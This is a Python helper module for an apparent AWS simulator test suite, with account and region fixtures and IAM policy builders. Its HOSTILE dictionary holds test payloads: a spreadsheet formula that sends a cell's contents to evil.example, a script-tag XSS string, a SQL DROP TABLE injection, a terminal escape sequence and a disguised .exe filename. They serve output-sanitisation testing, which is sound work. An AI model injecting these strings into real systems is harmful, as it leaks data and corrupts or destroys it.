"""Where things are put: one region of one account, and the words that several themes use."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from typing import Any

from simulators.aws.inside import Inside
from simulators.aws.supplement.registry import Refusal, Result, Told
from simulators.aws.tuning import state

ROLE = "demarc-read"
# Where AWS takes any text, somebody's script, shell or spreadsheet will one day meet this.
HOSTILE = {
    "terminal": "\x1b[31mred\x1b[0m\x07",
    "formula": '=HYPERLINK("http://evil.example/"&A1)',
    "markup": "<script>alert(1)</script>",
    "sql": "'; DROP TABLE resources; --",
    "mirrored": "invoice\u202efdp.exe",
}


@dataclass(frozen=True)
class Place:
    """One region of one account. Clients work as boto3's do, and what they make is there at once."""

    told: Told
    account: str
    region: str
    careful: bool = False  # whether those who run the account are
    made: dict[str, Any] = field(default_factory=dict)  # what earlier themes made here that later ones use

    def client(self, service: str) -> Any:
        return Inside(service, self.region, self.account)

    def within(self, region: str) -> Place:
        """Return another region of the same account, where nothing was made yet."""
        return replace(self, region=region, made={})

    def backend(self, service: str) -> Any:
        """Return moto's own state, for what no call can set: how old a key is, when it was last used."""
        return state(service)[self.account]["aws" if service in ("iam", "s3") else self.region]

    def tell(self, operation: str, result: Result | Refusal, **params: Any) -> None:
        """Have *operation*, when it is asked here with *params*, answer *result*."""
        self.told.tell(self.account, self.region, operation, result, params)

    def add(self, operation: str, **rows: Sequence[Any]) -> None:
        """Have *operation* list these *rows*, by the field that holds them, beside what moto made."""
        self.told.add(self.account, self.region, operation, rows)

    def tell_everywhere(self, operation: str, result: Result | Refusal, **params: Any) -> None:
        """Have *operation* answer *result* in whichever region of the account it is asked."""
        self.told.tell(self.account, "", operation, result, params)

    def arn(self, service: str, rest: str) -> str:
        return f"arn:aws:{service}:{self.region}:{self.account}:{rest}"


def allow(action: str | list[str], resource: str | list[str] = "*", **more: Any) -> str:
    """Return a policy document of one statement that allows."""
    return document({"Effect": "Allow", "Action": action, "Resource": resource, **more})


def document(*statements: Mapping[str, Any]) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


def trust(principal: Mapping[str, str] | str, **condition: Mapping[str, Any]) -> str:
    """Return a trust policy; *condition* by operator (``StringEquals={...}``)."""
    statement = {"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}
    return document(statement | ({"Condition": condition} if condition else {}))


def deny_plain_http(resource: str | list[str], action: str) -> dict[str, Any]:
    """Return the statement that refuses calls without TLS."""
    unencrypted = {"Bool": {"aws:SecureTransport": "false"}}
    return {"Effect": "Deny", "Principal": "*", "Action": action, "Resource": resource, "Condition": unencrypted}


def ago(days: float) -> datetime:
    return datetime.now(UTC) - timedelta(days=days)


def tags(**pairs: str) -> list[dict[str, str]]:
    return [{"Key": key, "Value": value} for key, value in pairs.items()]


def named(kind: str, **pairs: str) -> list[dict[str, Any]]:
    """Return the tags with which EC2 makes a thing of a *kind*."""
    return [{"ResourceType": kind, "Tags": tags(**pairs)}]
